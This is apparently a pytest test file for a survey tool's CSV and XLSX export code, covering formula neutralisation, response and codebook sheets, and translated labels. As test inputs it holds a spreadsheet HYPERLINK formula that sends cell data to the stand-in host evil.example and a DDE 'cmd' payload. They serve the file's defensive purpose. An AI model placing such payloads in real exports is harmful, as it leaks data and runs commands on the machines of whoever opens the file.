"""The export format layer: formula neutralisation, CSV and XLSX files, responses and codebook."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.web.exports import (
    CODEBOOK_COLUMNS,
    FORMULA_PREFIXES,
    RESPONSE_FIXED_COLUMNS,
    ResponseRecord,
    Sheet,
    codebook_sheet,
    iter_csv,
    neutralise,
    response_sheet,
    sheet_title,
    to_csv,
    to_xlsx,
)
from conversations.questionnaire import Questionnaire, load_questionnaire, parse_questionnaire

TRACKING = Path(__file__).parent.parent / "conversations" / "questionnaires" / "tracking.yaml"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1, "click")'


@pytest.fixture(scope="module")
def tracking() -> Questionnaire:
    return load_questionnaire(TRACKING)


SMALL = """
settings:
  form_id: small
  version: "1"
  default_language: en
  languages: [nl, en]
  title: {nl: Klein, en: Small}
survey:
  - type: note
    name: hello
    label: {en: Hello, nl: Hallo}
  - type: select_one colour
    name: colour
    label: {en: "Colour?", nl: "Kleur?"}
  - type: scale
    name: mood
    parameters: {min: 0, max: 3}
    required: false
    label: {en: "Mood?", nl: "Stemming?"}
  - type: decimal
    name: amount
    label: {en: "Amount?", nl: "Bedrag?"}
choices:
  colour:
    - name: red
      label: {nl: Rood, en: Red}
    - name: blue
      label: {nl: Blauw, en: Blue}
"""


@pytest.fixture(scope="module")
def small() -> Questionnaire:
    return parse_questionnaire(SMALL)


def record(answers: dict[str, object], **fields: object) -> ResponseRecord:
    values: dict[str, object] = {
        "respondent": "g7f3a9",
        "school": "demo",
        "programme": "cook",
        "cohort": 2026,
        "wave": "m2",
        "form_id": "tracking",
        "version": "2026.1",
        "status": "submitted",
        "outcome": "completed",
        "started": date(2026, 8, 30),
        "completed": date(2026, 9, 1),
        "answers": answers,
    }
    values.update(fields)
    return ResponseRecord(**values)  # type: ignore[arg-type]


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def as_dict(header: Sequence[str], row: Sequence[object]) -> dict[str, object]:
    assert len(header) == len(row)
    return dict(zip(header, row, strict=True))


def worksheet(data: bytes, title: str) -> Worksheet:
    sheet = load_workbook(io.BytesIO(data))[title]
    assert isinstance(sheet, Worksheet)
    return sheet


# --- neutralise ---------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_prefix_gets_an_apostrophe(prefix: str) -> None:
    assert neutralise(prefix + "1+2") == "'" + prefix + "1+2"
    assert neutralise(prefix) == "'" + prefix


def test_the_owasp_prefixes_are_all_there() -> None:
    assert set("=+-@\t\r") <= set(FORMULA_PREFIXES)


@pytest.mark.parametrize(
    "text",
    ["  =1+2", " +1", "\u00a0-2", " \t@SUM(A1)", "\n=1", "\r\n=cmd|' /C calc'!A0", "\u3000=1"],
)
def test_leading_whitespace_does_not_hide_a_formula(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "employed", "Õpilane ñ è", "5 - 3", "a=b", "'=already", "1+1", "| pipe", "%"]
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_text_that_looks_negative_does_not() -> None:
    assert neutralise(-5) == -5
    assert isinstance(neutralise(-5), int)
    assert neutralise(-2.5) == -2.5
    assert isinstance(neutralise(-2.5), float)
    assert neutralise(0) == 0
    assert neutralise("-5 euros") == "'-5 euros"
    assert neutralise("-5") == "'-5"


def test_other_values() -> None:
    assert neutralise(None) is None
    assert neutralise(True) == "yes"
    assert neutralise(False) == "no"
    assert neutralise(date(2026, 6, 30)) == "2026-06-30"
    assert neutralise(float("nan")) == "nan"
    assert neutralise(["a", "b"]) == "['a', 'b']"


def test_neutralising_twice_changes_nothing_more() -> None:
    for value in ["=1", "  -x", "plain", -3, None, True]:
        once = neutralise(value)
        assert neutralise(once) == once


# --- CSV ----------------------------------------------------------------------------------


def test_csv_round_trip() -> None:
    sheet = Sheet(
        "test",
        ["name", "answer", "number"],
        [
            ["Õpilane ñ è", HOSTILE, -5],
            ['comma, and "quotes"\nnew line', "  =1+2", 2.5],
            [None, "-5 euros", True],
        ],
    )
    data = to_csv(sheet)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert data.count(b"\xef\xbb\xbf") == 1
    assert csv_rows(data) == [
        ["name", "answer", "number"],
        ["Õpilane ñ è", "'" + HOSTILE, "-5"],
        ['comma, and "quotes"\nnew line', "'  =1+2", "2.5"],
        ["", "'-5 euros", "yes"],
    ]


def test_csv_neutralises_the_header_too() -> None:
    assert csv_rows(to_csv(Sheet("x", ["=bad", "ok"], [])))[0] == ["'=bad", "ok"]


def test_iter_csv_streams_row_by_row() -> None:
    consumed: list[int] = []

    def rows() -> Iterator[list[object]]:
        for number in range(3):
            consumed.append(number)
            yield [number]

    pieces = iter_csv(Sheet("x", ["n"], rows()))
    assert next(pieces) == b"\xef\xbb\xbf"
    assert next(pieces) == b"n\r\n"
    assert consumed == []
    assert next(pieces) == b"0\r\n"
    assert consumed == [0]
    assert b"".join(pieces) == b"1\r\n2\r\n"


# --- XLSX ---------------------------------------------------------------------------------


def test_xlsx_round_trip_without_formulas() -> None:
    hostile_rows: list[list[object]] = [
        [f"{prefix}1+2" for prefix in FORMULA_PREFIXES if prefix != "\0"],
        [HOSTILE, "  =1+2", "-5 euros", -5, 2.5, None, "#N/A", "Õpilane ñ è", "bell\x07"],
    ]
    data = to_xlsx([Sheet("answers", ["=a", "b"], hostile_rows)])
    sheet = worksheet(data, "answers")
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells, "the sheet is empty"
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type != "e" for cell in cells)
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][:2] == ["'=a", "b"]
    assert all(isinstance(v, str) and v.startswith("'") for v in values[1] if v is not None)
    assert values[2][:9] == [
        "'" + HOSTILE,
        "'  =1+2",
        "'-5 euros",
        -5,
        2.5,
        None,
        "#N/A",
        "Õpilane ñ è",
        "bell\ufffd",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    assert not sheet["A2"].font.b


def test_xlsx_sheet_names_are_sanitised_and_unique() -> None:
    names = [
        "responses",
        "a[b]:c*d?e/f\\g",
        "x" * 40,
        "RESPONSES",
        "'quoted'",
        "",
    ]
    data = to_xlsx([Sheet(name, ["h"], [[index]]) for index, name in enumerate(names)])
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [
        "responses",
        "a_b__c_d_e_f_g",
        "x" * 31,
        "RESPONSES (2)",
        "quoted",
        "Sheet",
    ]
    for index, title in enumerate(workbook.sheetnames):
        sheet = workbook[title]
        assert isinstance(sheet, Worksheet)
        assert [list(row) for row in sheet.iter_rows(values_only=True)] == [["h"], [index]]


def test_sheet_title() -> None:
    assert sheet_title("2026/27 [nl]") == "2026_27 _nl_"
    assert len(sheet_title("é" * 50)) == 31
    assert sheet_title("'") == "Sheet"


def test_xlsx_with_no_sheets_is_still_a_workbook() -> None:
    assert load_workbook(io.BytesIO(to_xlsx([]))).sheetnames == ["Sheet"]


# --- responses ----------------------------------------------------------------------------


def test_response_header(tracking: Questionnaire) -> None:
    sheet = response_sheet(tracking, [], "en")
    header = list(sheet.header)
    assert header[: len(RESPONSE_FIXED_COLUMNS)] == list(RESPONSE_FIXED_COLUMNS)
    answers = header[len(RESPONSE_FIXED_COLUMNS) :]
    assert answers[:4] == ["C0", "C0_label", "Q1", "Q1_label"]
    assert "E3" in answers and "E3_label" not in answers  # integer: no label column
    assert "E11" in answers and "E11_label" not in answers  # scale: no label column
    assert answers.index("E10_label") == answers.index("E10") + 1
    expected = [q.name for q in tracking.questions if q.answerable]
    assert [name for name in answers if not name.endswith("_label")] == expected
    assert sheet.name == "responses"
    assert response_sheet(tracking, [], "en", name="m2").name == "m2"


@pytest.mark.parametrize(
    ("lang", "q1", "e10", "e6"),
    [
        (
            "nl",
            "Ik werk in loondienst",
            "Vacaturesite of uitzendbureau; Via school of de loopbaanbegeleiding",
            "Gedeeltelijk",
        ),
        (
            "es",
            "Trabajo por cuenta ajena",
            "Portal de empleo o ETT; El centro o su bolsa de empleo",
            "En parte",
        ),
    ],
)
def test_response_rows_in_two_languages(
    tracking: Questionnaire, lang: str, q1: str, e10: str, e6: str
) -> None:
    answers: dict[str, object] = {
        "C0": "yes",
        "Q1": "employed",
        "E3": -5,
        "E4": HOSTILE,
        "E5_other": "-5 euros",
        "E6": "partly",
        "E10": ["job_site", "school"],
        "E11": 4,
        "E12": "moon",  # unknown code (another version)
        "NOT_IN_FORM": "ignored",
    }
    sheet = response_sheet(tracking, [record(answers)], lang)
    rows = csv_rows(to_csv(sheet))
    assert rows[0] == list(sheet.header)
    row = as_dict(rows[0], rows[1])
    assert row["respondent"] == "g7f3a9"
    assert row["cohort"] == "2026"
    assert row["wave"] == "m2"
    assert row["form"] == "tracking"
    assert row["started"] == "2026-08-30"
    assert row["completed"] == "2026-09-01"
    assert row["Q1"] == "employed"
    assert row["Q1_label"] == q1
    assert row["E6_label"] == e6
    assert row["E10"] == "job_site school"
    assert row["E10_label"] == e10
    assert row["E12"] == "moon"
    assert row["E12_label"] == ""
    assert row["E3"] == "-5"
    assert row["E4"] == "'" + HOSTILE
    assert row["E5_other"] == "'-5 euros"
    assert row["E11"] == "4"
    assert row["S1"] == "" and row["S1_label"] == ""
    assert "NOT_IN_FORM" not in row
    assert "ignored" not in rows[1]


def test_response_values_keep_their_types_in_xlsx(tracking: Questionnaire) -> None:
    answers: dict[str, object] = {"Q1": "employed", "E3": -5, "E4": HOSTILE, "E11": 4}
    sheet = response_sheet(tracking, [record(answers, wave=None, completed=None)], "nl")
    data = to_xlsx([sheet, codebook_sheet(tracking, "nl")])
    assert load_workbook(io.BytesIO(data)).sheetnames == ["responses", "codebook"]
    xlsx = worksheet(data, "responses")
    header, row = (list(r) for r in xlsx.iter_rows(values_only=True))
    values = as_dict([str(h) for h in header], row)
    assert values["E3"] == -5
    assert values["E11"] == 4
    assert values["cohort"] == 2026
    assert values["E4"] == "'" + HOSTILE
    assert values["Q1_label"] == "Ik werk in loondienst"
    assert values["wave"] is None and values["completed"] is None
    assert all(cell.data_type != "f" for r in xlsx.iter_rows() for cell in r)


def test_select_answers_in_older_shapes(tracking: Questionnaire) -> None:
    answers: dict[str, object] = {
        "E10": "personal_contacts  internship",  # space-separated (older data)
        "U2": ["job_site", "gone", "other"],  # with a code from another version
        "S4": [],  # no answer
        "C0": "",  # no answer
        "U1": "7",  # a number stored as text
    }
    sheet = response_sheet(tracking, [record(answers)], "en")
    rows = list(sheet.rows)
    row = as_dict(sheet.header, rows[0])
    assert row["E10"] == "personal_contacts internship"
    assert row["E10_label"] == "Family, friends or contacts; Through my internship or a past job"
    assert row["U2"] == "job_site gone other"
    assert row["U2_label"] == "Job site or temp agency; Something else"
    assert row["S4"] is None and row["S4_label"] is None
    assert row["C0"] is None and row["C0_label"] is None
    assert row["U1"] == 7


def test_numbers_and_labels_in_a_small_form(small: Questionnaire) -> None:
    records = [record({"colour": "blue", "mood": 0, "amount": "2.50"}, form_id="small")]
    sheet = response_sheet(small, records, "nl")
    assert list(sheet.header) == [
        *RESPONSE_FIXED_COLUMNS,
        "colour",
        "colour_label",
        "mood",
        "amount",
    ]  # no column for the note
    row = as_dict(sheet.header, next(iter(sheet.rows)))
    assert row["colour_label"] == "Blauw"
    assert row["mood"] == 0
    assert row["amount"] == 2.5


def test_labels_fall_back_to_the_default_language(small: Questionnaire) -> None:
    # Dutch is listed first, English is the default: a language the form lacks gets English.
    assert small.choice(small.question("colour"), "red") is not None
    sheet = response_sheet(small, [record({"colour": "red"})], "fr")
    assert as_dict(sheet.header, next(iter(sheet.rows)))["colour_label"] == "Red"
    rows = codebook(small, "fr")
    assert rows[0]["label"] == "Colour?"
    assert rows[1]["choice_label"] == "Red"


def test_records_are_read_lazily_and_once(tracking: Questionnaire) -> None:
    pulled: list[str] = []

    def records() -> Iterator[ResponseRecord]:
        for key in ("a", "b", "c"):
            pulled.append(key)
            yield record({"Q1": "studying"}, respondent=key)

    sheet = response_sheet(tracking, records(), "en")
    assert pulled == []
    rows = csv_rows(to_csv(sheet))
    assert pulled == ["a", "b", "c"]
    assert [row[0] for row in rows[1:]] == ["a", "b", "c"]
    assert list(sheet.rows) == []  # the generator is spent: nothing was read twice
    assert pulled == ["a", "b", "c"]


def test_xlsx_streams_records_once(tracking: Questionnaire) -> None:
    pulled: list[int] = []

    def records() -> Iterator[ResponseRecord]:
        for number in range(250):
            pulled.append(number)
            yield record({"E3": number}, respondent=f"r{number}")

    data = to_xlsx([response_sheet(tracking, records(), "en")])
    assert pulled == list(range(250))
    rows = list(worksheet(data, "responses").iter_rows(values_only=True))
    assert len(rows) == 251
    assert rows[250][0] == "r249"


# --- codebook -----------------------------------------------------------------------------


def codebook(q: Questionnaire, lang: str) -> list[dict[str, object]]:
    sheet = codebook_sheet(q, lang)
    assert sheet.name == "codebook"
    assert tuple(sheet.header) == CODEBOOK_COLUMNS
    return [as_dict(sheet.header, row) for row in sheet.rows]


def test_codebook_lists_every_choice_of_a_select_question(tracking: Questionnaire) -> None:
    rows = codebook(tracking, "nl")
    q1 = [row for row in rows if row["question"] == "Q1"]
    question, choices = q1[0], q1[1:]
    assert question["type"] == "select_one"
    assert question["list"] == "activity"
    assert question["label"] == "Wat doe je op dit moment vooral?"
    assert question["hint"] == "Kies waar je de meeste tijd aan besteedt."
    assert question["required"] is True and question["core"] is True
    assert question["relevant"] == "${C0} = 'yes'"
    assert question["choice"] is None
    assert [(c["choice"], c["choice_label"]) for c in choices] == [
        ("employed", "Ik werk in loondienst"),
        ("self_employed", "Ik werk als zelfstandige"),
        ("studying", "Ik studeer"),
        ("working_and_studying", "Ik werk én studeer"),
        ("unemployed_looking", "Ik zoek werk"),
        ("not_available", "Ik neem even pauze (zorg, ziekte, reis…)"),
        ("other", "Iets anders"),
    ]
    assert all(c["label"] is None and c["list"] == "activity" for c in choices)


def test_codebook_in_another_language_and_other_columns(tracking: Questionnaire) -> None:
    rows = codebook(tracking, "es")
    by_name = {row["question"]: row for row in rows if row["choice"] is None}
    assert list(by_name) == [q.name for q in tracking.questions if q.answerable]
    assert by_name["Q1"]["label"] == "¿A qué te dedicas ahora mismo?"
    e3 = by_name["E3"]
    assert e3["type"] == "integer" and e3["list"] is None
    assert e3["constraint"] == ". >= 1 and . <= 80"
    assert e3["group"] == "main/E"
    relevant = str(e3["relevant"])
    assert relevant.startswith("(${C0} = 'yes') and (selected(${Q1}, 'employed')")
    e11 = by_name["E11"]
    assert (e11["min"], e11["max"]) == (1, 5)
    assert (e3["min"], e3["max"]) == (None, None)
    assert by_name["A4"]["required"] is False
    e10_choices = [row["choice"] for row in rows if row["question"] == "E10" and row["choice"]]
    assert e10_choices == [c.name for c in tracking.choices["job_search"]]
    assert by_name["C0"]["relevant"] is None


def test_codebook_skips_notes_and_shows_scale_ranges(small: Questionnaire) -> None:
    rows = codebook(small, "nl")
    assert [(row["question"], row["choice"]) for row in rows] == [
        ("colour", None),
        ("colour", "red"),
        ("colour", "blue"),
        ("mood", None),
        ("amount", None),
    ]
    assert rows[2]["choice_label"] == "Blauw"
    assert (rows[3]["min"], rows[3]["max"]) == (0, 3)
    assert rows[3]["label"] == "Stemming?"


def test_codebook_as_csv_has_yes_no_flags(tracking: Questionnaire) -> None:
    rows = csv_rows(to_csv(codebook_sheet(tracking, "en")))
    first = as_dict(rows[0], rows[1])
    assert first["question"] == "C0"
    assert first["required"] == "yes" and first["core"] == "yes"
    a4 = next(as_dict(rows[0], row) for row in rows if row[0] == "A4")
    assert a4["required"] == "no"


def test_date_answers_are_dates_in_xlsx_and_iso_text_in_csv() -> None:
    """A date answer (stored as 2026-09-15) is an Excel date cell, like started and
    completed; in CSV it stays ISO text. Text that is no date stays text."""
    small = parse_questionnaire(
        SMALL.replace(
            "choices:",
            "  - type: date\n    name: started_job\n    required: false\n"
            '    label: {en: "Since when?", nl: "Sinds wanneer?"}\nchoices:',
            1,
        )
    )
    records = [
        record({"started_job": "2026-09-15"}, form_id="small"),
        record({"started_job": "not a date"}, form_id="small"),
    ]
    xlsx = worksheet(to_xlsx([response_sheet(small, records, "en")]), "responses")
    header = [cell.value for cell in next(xlsx.iter_rows(max_row=1))]
    first, second = (list(row) for row in xlsx.iter_rows(min_row=2))
    for name in ("started", "completed", "started_job"):
        cell = first[header.index(name)]
        assert cell.data_type == "d" and cell.number_format == "yyyy-mm-dd", name
    assert first[header.index("started_job")].value == datetime(2026, 9, 15)
    assert second[header.index("started_job")].value == "not a date"
    rows = csv_rows(to_csv(response_sheet(small, records, "en")))
    assert [row[rows[0].index("started_job")] for row in rows[1:]] == ["2026-09-15", "not a date"]
